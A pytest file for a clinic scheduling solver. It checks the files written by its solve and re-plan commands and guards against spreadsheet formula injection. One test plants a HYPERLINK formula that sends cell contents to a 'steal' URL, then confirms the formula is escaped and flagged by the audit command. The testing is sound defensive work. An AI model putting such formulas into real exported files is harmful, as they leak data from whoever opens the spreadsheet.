"""The solve and re-plan outputs are complete sets, and every CSV among them is safe to open
in a spreadsheet (how a set replaces the folder is tests/solver/outputs/test_folder.py)."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
from typer.testing import CliRunner

from models.events import Cancel
from models.loader import load_scenario, save_scenario
from models.results import CHANGE_COLUMNS, SCHEDULE_COLUMNS, ExceptionItem, Schedule
from solver.cli import app
from solver.outputs.files import write_outputs, write_reshuffle_outputs
from solver.outputs.folder import RECORD
from solver.outputs.kpis import kpis
from solver.replan import reshuffle
from solver.solve import solve
from tests.conftest import MONDAY, TUESDAY, mini_clinic, patients, provider, request, service
from tests.solver.outputs.cli_runs import night_and_day
from tests.solver.replan.test_events import at


def test_the_solve_outputs_are_the_five_files_with_their_columns(tmp_path: Path) -> None:
    scenario = mini_clinic(
        services=[service("botox"), service("filler")],  # nobody may perform filler
        requests=[
            request("r1", "p1", "botox", latest=TUESDAY),
            request("r2", "p1", "filler", latest=TUESDAY),
        ],
    )
    result = solve(scenario, time_limit=0.5, num_workers=1, seed=0, deterministic=True)
    figures = kpis(result)
    paths = write_outputs(result, figures, tmp_path)
    names = ["schedule.csv", "kpis.json", "exceptions.csv", "gantt.png", "report.html"]
    assert [p.name for p in paths] == names
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([RECORD, *(p.name for p in paths)])
    schedule = pd.read_csv(tmp_path / "schedule.csv", dtype=str, keep_default_na=False)
    assert list(schedule.columns) == SCHEDULE_COLUMNS
    assert list(schedule["status"]) == ["booked", "escalated"]
    exceptions = pd.read_csv(tmp_path / "exceptions.csv", dtype=str)
    assert list(exceptions.columns) == list(ExceptionItem.model_fields)
    assert list(exceptions["request_id"]) == ["r2"]
    assert json.loads((tmp_path / "kpis.json").read_text(encoding="utf-8"))["requests"] == {
        "total": 2,
        "booked": 1,
        "unscheduled": 0,
        "escalated": 1,
    }
    assert (tmp_path / "gantt.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


def test_the_re_plan_outputs_are_the_six_files(tmp_path: Path) -> None:
    scenario = mini_clinic(
        requests=[
            request("r1", "p1", "botox", latest=TUESDAY),
            request("r2", "p2", "botox", latest=TUESDAY),
        ]
    )
    night = solve(scenario, time_limit=0.5, num_workers=1, seed=0, deterministic=True).schedule
    result = reshuffle(scenario, night, [Cancel(booking="r1")], at("08:00"), 0.5, 1, 0)
    paths = write_reshuffle_outputs(result, (scenario, night), tmp_path)
    names = ["schedule.csv", "changes.csv", "exceptions.csv", "scenario.yaml", "gantt_day.png"]
    names.append("report.html")
    assert [p.name for p in paths] == names
    changes = pd.read_csv(tmp_path / "changes.csv", dtype=str)
    assert list(changes.columns) == CHANGE_COLUMNS
    assert list(changes["change"]) == ["cancelled_late"]
    state = load_scenario(tmp_path / "scenario.yaml")
    assert [(b.id, b.status) for b in state.bookings if b.id == "r1"] == [("r1", "cancelled_late")]


def _cells(path: Path) -> list[dict[str, str]]:
    """The rows of a CSV file as a spreadsheet gets them (no unquoting)."""
    with path.open(newline="", encoding="utf-8") as stream:
        return list(csv.DictReader(stream))


def test_a_formula_in_the_rulebook_reaches_no_csv_as_a_formula(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://example.com/steal?"&A1,"details")'
    scenario = mini_clinic(
        policies={"escalation_owner": formula},
        services=[service("botox"), service("filler")],  # nobody may perform filler
        requests=[
            request("r1", "p1", "botox", latest=TUESDAY),
            request("r2", "p2", "filler", latest=TUESDAY),
        ],
    )
    save_scenario(scenario, tmp_path / "clinic.yaml")
    night, day, _ = night_and_day(tmp_path / "clinic.yaml", "cancel:r1", f"{MONDAY}T08:00")
    assert [row["owner"] for row in _cells(night / "exceptions.csv")] == ["'" + formula]
    runner = CliRunner()
    assert [row["owner"] for row in _cells(day / "changes.csv")] == ["'" + formula]
    assert {row["owner"] for row in _cells(day / "exceptions.csv")} == {"'" + formula}
    audited = runner.invoke(app, ["audit", str(tmp_path / "clinic.yaml"), "--json"])
    warned = [(f["code"], f["where"]) for f in json.loads(audited.output)]
    assert ("formula_like_text", "policies.escalation_owner") in warned


def test_ids_starting_like_a_formula_round_trip_and_pass_the_checker(tmp_path: Path) -> None:
    scenario = mini_clinic(
        services=[service("-botox")],
        providers=[provider("-rn", ["-botox"], {"mon": "09:00-17:00"})],
        patients=patients(["-p1", "-p2"]),
        requests=[request("-r1", "-p1", "-botox"), request("-r2", "-p2", "-botox")],
    )
    result = solve(scenario, time_limit=0.5, num_workers=1, seed=0, deterministic=True)
    write_outputs(result, kpis(result), tmp_path / "out")
    rows = _cells(tmp_path / "out" / "schedule.csv")
    assert [row["request_id"] for row in rows] == ["'-r1", "'-r2"]
    assert Schedule.read_csv(tmp_path / "out" / "schedule.csv") == result.schedule
    save_scenario(scenario, tmp_path / "clinic.yaml")
    checked = CliRunner().invoke(
        app,
        [
            "check",
            str(tmp_path / "clinic.yaml"),
            "--schedule",
            str(tmp_path / "out" / "schedule.csv"),
        ],
    )
    assert checked.exit_code == 0, checked.output
